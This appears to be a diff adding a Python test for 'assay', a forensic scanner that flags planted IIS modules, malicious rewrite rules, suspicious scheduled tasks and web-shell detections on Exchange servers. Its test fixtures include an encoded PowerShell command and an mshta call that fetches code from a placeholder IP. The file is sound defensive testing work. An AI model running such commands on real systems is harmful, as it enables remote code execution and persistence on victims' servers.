@@ -1,0 +1,112 @@
+#!/usr/bin/env python3
+"""A server's configuration, programs and tasks through the whole program: what is planted is found,
+its harmless twin is not, what is damaged is a gap.
+
+usage: test_configuration.py ASSAY GEN
+"""
+import json
+import os
+import pathlib
+import subprocess
+import sys
+import tempfile
+
+sys.path.insert(0, sys.argv[2])
+import configuration as gen  # noqa: E402
+
+assay = os.path.abspath(sys.argv[1])
+EXCHANGE = "C/Program Files/Microsoft/Exchange Server/V15/"
+HOST = "C/Windows/System32/inetsrv/config/applicationHost.config"
+AGENTS = EXCHANGE + "TransportRoles/Shared/agents.config"
+TASK = "C/Windows/System32/Tasks/Updater"
+DETECTION = ("C/ProgramData/Microsoft/Windows Defender/Scans/History/Service/DetectionHistory/02/"
+             "03020100-0504-0706-0809-0A0B0C0D0E0F")
+ENCODED = "-nop -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA"
+
+# (file, content, the only rule that speaks of it; None: a twin, of which none does)
+CASES = [
+    (HOST, gen.application_host(), None),
+    (HOST, gen.application_host(native='<add name="H" image="C:\\ProgramData\\h.dll" />'),
+     "Native module of IIS from a place where none belongs"),
+    ("C/inetpub/history/CFGHISTORY_0000000003/applicationHost.config",
+     gen.application_host(native='<add name="H" image="C:\\ProgramData\\h.dll" />'),
+     "Native module of IIS from a place where none belongs, in an older configuration"),
+    (HOST, gen.application_host(managed='<add name="S" type="Acme.S, Acme" />'),
+     "Managed module that neither ASP.NET nor Exchange ships"),
+    (HOST, gen.application_host(handler='<add name="j" path="*.jpg" type="System.Web.UI.PageHandlerFactory" />'),
+     "Files of a harmless kind are run as pages"),
+    (HOST, gen.application_host(handler='<add name="j" path="*.ashx" type="System.Web.UI.SimpleHandlerFactory" />'),
+     None),
+    (HOST, gen.application_host(rewrite='<rewrite><rules><rule name="r"><match url=".*" /><action '
+                                'type="Rewrite" url="http://203.0.113.7/{R:0}" /></rule></rules></rewrite>'),
+     "Requests are passed on to another server"),
+    (HOST, gen.application_host(rewrite='<rewrite><rules><rule name="r"><match url=".*" /><action '
+                                'type="Redirect" url="https://{HTTP_HOST}/owa" /></rule></rules></rewrite>'),
+     None),
+    (HOST, gen.application_host(vdir='<virtualDirectory path="/z" physicalPath="C:\\ProgramData\\COM1" />'),
+     "Virtual directory that points to an odd place"),
+    (AGENTS, gen.agents(), None),
+    (AGENTS, gen.agents('<agent name="H" classFactory="H.F" assemblyPath="C:\\ProgramData\\h.dll" '
+                        'enabled="true" />'), "Transport agent from a place where none belongs"),
+    (TASK, gen.task("%windir%\\system32\\defrag.exe", "-c -h"), None),
+    (TASK, gen.task("powershell.exe", ENCODED), "Scheduled task with encoded or hidden commands"),
+    (TASK, gen.task("C:\\Windows\\Temp\\a.exe"), "Scheduled task that runs a program from an odd place"),
+    (TASK, gen.task("mshta.exe", "http://203.0.113.7/a"), "Scheduled task that runs code from the network"),
+    ("C/Windows/System32/inetsrv/h.dll", gen.program(name="h.dll", exports=["RegisterModule"]),
+     "Library that is a module of IIS, unsigned"),
+    ("C/Windows/System32/inetsrv/h.dll", gen.program(name="h.dll", exports=["RegisterModule"], signed=True),
+     None),
+    (DETECTION, gen.detection("Backdoor:ASP/Chopper.A", "C:\\inetpub\\wwwroot\\x.aspx"),
+     "Defender removed a page from a web folder"),
+    (DETECTION, gen.detection("Backdoor:ASP/Chopper.A", "C:\\inetpub\\wwwroot\\x.aspx", status=103),
+     "Defender found a page in a web folder and did not remove it"),
+    (DETECTION, gen.detection("Virus:DOS/EICAR_Test_File", "C:\\Users\\u\\eicar.com"), None),
+]
+problems = []
+
+
+def scan(path, content):
+    with tempfile.TemporaryDirectory() as work:
+        place = pathlib.Path(work) / path
+        place.parent.mkdir(parents=True)
+        place.write_bytes(content)
+        out = subprocess.run([assay, "scan", "--format", "json", work], capture_output=True)
+        return json.loads(out.stdout)
+
+
+for path, content, rule in CASES:
+    told = scan(path, content)
+    titles = [f["rule"]["title"] for f in told["findings"]]
+    if titles != ([rule] if rule else []) or told["gaps"]:
+        problems.append(f"{path}: {titles}, gaps {told['gaps']}, want {rule}")
+    torn = scan(path, content[:-30])
+    if rule != "Library that is a module of IIS, unsigned" and not path.endswith(".dll") and \
+            len(torn["gaps"]) != 1:
+        problems.append(f"{path}: torn, and the gaps are {torn['gaps']}")
+with tempfile.TemporaryDirectory() as work:
+    place = pathlib.Path(work) / "ExSetup.exe"
+    place.write_bytes(gen.program())
+    event = json.loads(subprocess.run([assay, "dump", place], capture_output=True).stdout)
+    if event["derived"].get("PeVersion") != "15.1.2375.7" or \
+            event["derived"].get("OriginalFileName") != "ExSetup.exe":
+        problems.append(f"the version of ExSetup.exe is {event['derived']}")
+# The build that the program's own file names is that of the end of the evidence.
+with tempfile.TemporaryDirectory() as work:
+    log = pathlib.Path(work) / "C/inetpub/logs/LogFiles/W3SVC1/u_ex210310.log"
+    setup = pathlib.Path(work) / EXCHANGE / "Bin/ExSetup.exe"
+    for place in (log, setup):
+        place.parent.mkdir(parents=True)
+    log.write_text("#Software: Microsoft Internet Information Services 10.0\n#Fields: date time s-ip "
+                   "cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) sc-status\n"
+                   "2021-03-10 01:02:03 192.0.2.1 GET /owa/ - 443 - 198.51.100.9 x 200\n"
+                   "2021-03-10 02:02:03 192.0.2.1 GET /owa/ - 443 - 198.51.100.9 x 200\n")
+    setup.write_bytes(gen.program(version=(15, 1, 2106, 2)))
+    out = subprocess.run([assay, "scan", "--format", "json", work], capture_output=True)
+    campaign = json.loads(out.stdout)["hosts"][0]["campaigns"][0]
+    told = [(i["state"], i["build"], i["from"][:19]) for i in campaign["exposure"]["intervals"]]
+    if told != [("vulnerable", "15.1.2106.2", "2021-03-10T02:02:03")]:
+        problems.append(f"builds told by ExSetup.exe: {told}")
+for problem in problems:
+    print("FAILED:", problem)
+print(f"{2 * len(CASES) + 2} checks, {len(problems)} problems")
+sys.exit(1 if problems else 0)
